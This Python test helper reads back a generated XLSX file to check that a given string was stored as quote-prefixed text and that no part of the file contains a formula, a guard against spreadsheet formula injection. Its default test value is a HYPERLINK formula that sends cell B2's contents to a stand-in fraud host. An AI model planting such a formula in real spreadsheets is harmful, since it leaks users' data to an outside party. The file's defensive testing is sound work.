"""Read a generated XLSX back at the XML level: formulas, and how a given text was stored."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

HOSTILE = '=HYPERLINK("http://penipu.example/?d="&B2,"Klik")'
FORMULA = re.compile(rb"<f[ >/]")


def formula_parts(content: bytes) -> list[str]:
    """The parts of the file holding a formula element (<f>); none is the rule."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist() if FORMULA.search(archive.read(name))]


def text_cells(content: bytes, text: str) -> list:
    """Every cell, on any sheet, whose value reads back exactly as ``text``."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def assert_written_as_text(content: bytes, text: str = HOSTILE) -> None:
    """``text`` is in the file, unchanged, as a string cell marked as text, and no cell is a formula."""
    assert formula_parts(content) == []
    cells = text_cells(content, text)
    assert cells, f"{text!r} is not in the file"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
